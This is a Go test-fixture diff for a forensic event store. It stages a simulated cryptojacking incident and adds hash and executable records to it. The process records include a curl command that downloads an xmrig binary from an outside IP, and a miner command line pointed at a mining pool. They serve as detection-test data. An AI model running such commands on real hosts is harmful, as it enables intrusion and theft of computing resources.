@@ -16,6 +16,9 @@ func atp(sec int) *time.Time { t := at(sec); return &t }
 // loadMiner adds a small cryptojacking story to s for capture id on host: bash (pid 100) under
 // systemd fetches /tmp/.x/xmrig with curl (pid 101), writes a cron entry, runs the miner
 // (pid 102), which resolves pool.supportxmr.com and connects to it on port 3333.
+// minerSHA is the SHA-256 the fixture's xmrig has (the one docs/SCHEMA.md's example asks for).
+const minerSHA = "4add4bb89d8ca0e3b1bd861130ddd7ae0fd9617a8055de0a38c8d2ca1ac95723"
+
 func loadMiner(t testing.TB, s *Store, id, host string, day time.Duration) {
 	t.Helper()
 	d := func(sec int) time.Time { return at(sec).Add(day) }
@@ -32,7 +35,8 @@ func loadMiner(t testing.TB, s *Store, id, host string, day time.Duration) {
 		{Key: 1, PID: 1, Exe: "/usr/lib/systemd/systemd", Cmdline: "/sbin/init", Args: []string{"/sbin/init"}, User: "root"},
 		{Key: 2, ParentKey: 1, PID: 100, PPID: 1, Start: dp(1), Exe: "/usr/bin/bash", Cmdline: "bash -i", Args: []string{"bash", "-i"}, User: "www-data", UID: 33, Ancestry: "systemd"},
 		{Key: 3, ParentKey: 2, PID: 101, PPID: 100, Start: dp(2), Exit: dp(4), Exe: "/usr/bin/curl", Cmdline: "curl -o /tmp/.x/xmrig http://203.0.113.9/x", Args: []string{"curl", "-o", "/tmp/.x/xmrig", "http://203.0.113.9/x"}, User: "www-data", UID: 33, Ancestry: "bash<systemd"},
-		{Key: 4, ParentKey: 2, PID: 102, PPID: 100, Start: dp(10), Exe: "/tmp/.x/xmrig", Cmdline: "/tmp/.x/xmrig -o pool.supportxmr.com:3333", Args: []string{"/tmp/.x/xmrig", "-o", "pool.supportxmr.com:3333"}, User: "www-data", UID: 33, Ancestry: "bash<systemd"},
+		{Key: 4, ParentKey: 2, PID: 102, PPID: 100, Start: dp(10), Exe: "/tmp/.x/xmrig", Cmdline: "/tmp/.x/xmrig -o pool.supportxmr.com:3333", Args: []string{"/tmp/.x/xmrig", "-o", "pool.supportxmr.com:3333"}, User: "www-data", UID: 33, Ancestry: "bash<systemd",
+			ExeSHA256: minerSHA, ExeSize: 8_400_000},
 	}
 	for i := range procs {
 		procs[i].CaptureID = id
@@ -49,6 +53,10 @@ func loadMiner(t testing.TB, s *Store, id, host string, day time.Duration) {
 	must(s.AddConnection(&Connection{CaptureID: id, ID: 2, ProcessKey: 3, PID: 101, Proto: "tcp", LocalIP: "10.0.0.5", LocalPort: 40001,
 		RemoteIP: "203.0.113.9", RemotePort: 80, FirstTime: d(2), LastTime: d(4), BytesSent: 10, BytesRecv: 5000}))
 	must(s.AddFile(&File{CaptureID: id, Time: d(3), Action: "create", Path: "/tmp/.x/xmrig", Mode: 0o755, PID: 101, ProcessKey: 3, EventNum: 3}))
+	must(s.AddExecutable(&Executable{CaptureID: id, Time: d(10), PID: 102, Path: "/tmp/.x/xmrig", SHA256: minerSHA,
+		Size: 8_400_000, Inode: 1234, Mtime: d(3), Ctime: d(3), Kept: true}))
+	must(s.AddExecutable(&Executable{CaptureID: id, Time: d(2), PID: 101, Path: "/usr/bin/curl",
+		Error: "process gone before its executable could be read"}))
 	must(s.AddFile(&File{CaptureID: id, Time: d(5), Action: "write", Path: "/etc/cron.d/x", Mode: 0o644, PID: 100, ProcessKey: 2, EventNum: 5}))
 	must(s.AddFile(&File{CaptureID: id, Time: d(6), Action: "write", Path: "/home/u/notes.txt", PID: 100, ProcessKey: 2}))
 	must(s.AddFinding(&Finding{CaptureID: id, ID: 1, Rule: "Mining pool connection", Priority: "Critical", Source: "syscall",
